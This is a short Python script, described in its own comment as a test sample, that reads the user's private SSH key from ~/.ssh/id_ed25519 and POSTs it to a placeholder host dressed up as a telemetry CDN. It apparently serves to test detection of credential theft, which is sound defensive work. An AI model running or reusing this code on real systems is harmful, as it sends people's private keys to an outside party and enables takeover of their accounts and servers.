# Test sample: posts the canary SSH key over HTTPS with the standard library.
import os
import urllib.request

key = open(os.path.expanduser("~/.ssh/id_ed25519")).read()
req = urllib.request.Request("https://keys.telemetry-cdn.example/k", data=key.encode(), method="POST")
urllib.request.urlopen(req, timeout=3).read()
